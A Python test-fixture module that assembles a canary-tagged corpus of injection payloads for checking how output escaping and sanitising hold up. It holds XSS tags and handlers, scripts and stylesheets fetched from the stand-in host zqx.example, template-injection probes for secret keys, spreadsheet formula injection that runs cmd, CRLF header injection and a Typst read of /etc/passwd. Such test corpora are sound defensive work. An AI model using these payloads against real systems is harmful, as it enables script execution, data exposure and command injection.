"""What a hostile hand types: our own list, one sentence for each way in which words become something else.

Every line carries the sign MARK, so that it is found again wherever it comes out; what it would run, make or fetch
carries it too: an element `<zqx-…>`, an attribute `data-zqx`, a name `zqx` of the window, the host `zqx.example`. None of it
may be more than words anywhere.
"""

from __future__ import annotations

MARK = "zqx"
ELEMENTS = (
    "<script>window.zqx=1</script>",
    "</title></textarea></style><script>zqx()</script>",
    "<ScRiPt src=//zqx.example/x.js></sCrIpT>",
    "<img data-zqx src=x onerror=zqx()>",
    "<svg data-zqx/onload=zqx()>",
    "<svg><animate data-zqx onbegin=zqx() attributeName=x dur=1s>",
    "<zqx-made></zqx-made>",
    "<details open ontoggle=zqx()>",
    "<iframe srcdoc='<script>parent.zqx=1</script>'>",
    "<a href=javascript:zqx()>read</a>",
    "<form action=//zqx.example><button>Send",
    "<base href=//zqx.example/>",
    "<meta http-equiv=refresh content=0;url=//zqx.example>",
    "<link rel=stylesheet href=//zqx.example/x.css>",
    "<style>@import '//zqx.example/x.css'</style>",
    "<object data=//zqx.example></object>",
    "<template><img data-zqx src=x onerror=zqx()></template>",
    "<math><mtext><table><mglyph><style><!--</style><img data-zqx title='--&gt;<img src=1 onerror=zqx()>'>",
    "<noscript><p title='</noscript><img data-zqx src=x onerror=zqx()>'>",
    "<!--zqx--!><img data-zqx src=x onerror=zqx()>-->",
    "<![CDATA[<zqx-made>]]>",
    "]]><zqx-made>",
)
ATTRIBUTES = (
    '" autofocus onfocus=zqx() data-zqx="',
    "' onmouseover=zqx() data-zqx='",
    "` data-zqx onfocus=zqx() `",
    '"><zqx-made x="',
    "&quot; onfocus=zqx() &quot;",
    "&#60;zqx-made&#62;",
)
ADDRESSES = (
    "javascript:zqx()//",
    "java\tscript:zqx()",
    "data:text/html,<script>zqx()</script>",
    "//zqx.example/",
    'https://zqx.example/?a=<b>&c="d',
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}zqx",
    "{% load static %}zqx",
    "{{zqx}}",
    "${7*7}zqx",
    "<%= zqx %>",
    "#{zqx}",
    "{zqx}",
    "%(zqx)s",
    "%szqx",
)
CELLS = ("=cmd|'/c calc'!zqx", "+zqx()", "-zqx()", "@SUM(zqx)", "\t=zqx()", "＝zqx()", '=HYPERLINK("//zqx.example")')
LINES = ("zqx\r\nSet-Cookie: zqx=1", "zqx\r\nBcc: everyone@zqx.example", 'zqx\n{"level":"error","said":"zqx"}')
TYPESET = ('#panic("zqx")', '#read("/etc/passwd") zqx', '#import "zqx.typ"', "$zqx^2$ *not* _so_ `raw` @zqx <zqx> \\ // zqx")
SIGNS = ("zqx\u202egnp.exe", "zqx\u2066\u2069\u200f", "zqx\ufeff\u200b\u2028\u2029", "zqx\u0301\u0301\u0301", "ｚｑｘ zqx", "zqx\U0001f525")
REFUSED = ("zqx\x00end", "zqx\x1b[2Jend", "zqx\x07")
"""Signs that no engine or no printer keeps: they come back with a sentence, or go."""

CORPUS = (*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *CELLS, *LINES, *TYPESET, *SIGNS)


def words_for(number: int, most: int) -> str:
    """As many lines of the list as fit, beginning with another one for each field: all of them stand somewhere."""
    said = ""
    for step in range(len(CORPUS)):
        one = CORPUS[(number + step) % len(CORPUS)]
        if len(said) + len(one) + 1 <= most:
            said += (" " if said else "") + one
    return said or MARK
